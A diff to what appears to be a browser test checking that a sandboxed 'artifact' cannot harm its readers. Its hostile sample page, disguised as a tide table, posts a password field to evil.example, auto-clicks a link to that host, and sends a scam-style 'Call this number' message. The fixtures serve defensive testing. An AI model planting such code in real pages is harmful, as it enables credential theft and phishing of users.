@@ -9,7 +9,7 @@ const FENCE = '```';
 const HOSTILE = `<!doctype html>
 <title>Tide table</title>
 <p>High water at nine.</p>
-<form id="form" action="https://evil.example/form" method="post" target="_top"><input type="password" name="p" value="secret"></form>
+<form id="form" action="https://evil.example/form" method="post" target="_top"><input type="password" name="p" value="secret" aria-label="Password"></form>
 <ul id="out"></ul>
 <script>
 const say = (name, text) => {
@@ -37,6 +37,7 @@ document.body.append(inner);
 const link = document.createElement('a');
 link.href = 'https://evil.example/link';
 link.target = '_blank';
+link.textContent = 'More';
 document.body.append(link);
 link.click();
 parent.postMessage({ artifact: 'error', message: 'Call this number', line: 1 }, '*');
@@ -67,7 +68,7 @@ test('an artifact is published, can do nothing to its readers, and ends when its
   const asked: string[] = [];
   stranger.on('request', (request) => asked.push(request.url()));
   const opened: unknown[] = [];
-  stranger.on('page', (popup) => opened.push(popup));
+  reader.on('popup', (popup) => opened.push(popup.url()));
   reader.on('dialog', (shown) => opened.push(shown.message()));
 
   await test.step('a stranger sees it below a bar that says what it is', async () => {
